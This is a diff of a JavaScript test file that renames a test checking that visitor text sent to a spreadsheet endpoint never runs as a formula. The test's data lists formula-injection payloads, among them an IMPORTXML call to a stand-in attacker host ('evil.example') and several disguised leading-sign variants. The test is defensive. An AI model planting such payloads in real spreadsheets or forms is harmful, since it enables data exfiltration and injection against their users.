@@ -30,7 +30,7 @@ test('a row is posted as text/plain with the five keys of the specification', as
   ]);
 });
 
-test('what a visitor wrote is never run as a formula by the spreadsheet, and the keys stay the five', async () => {
+test('a visitor’s text never runs as a formula in the spreadsheet, and the keys stay the five', async () => {
   const { url, requests } = await sheetEndpoint(accepts);
   const formulas = ['=IMPORTXML("https://evil.example")', '+1+1', '-2+3', '@SUM(1)', '\t=1+1', '＝1+1'];
   for (const formula of formulas)
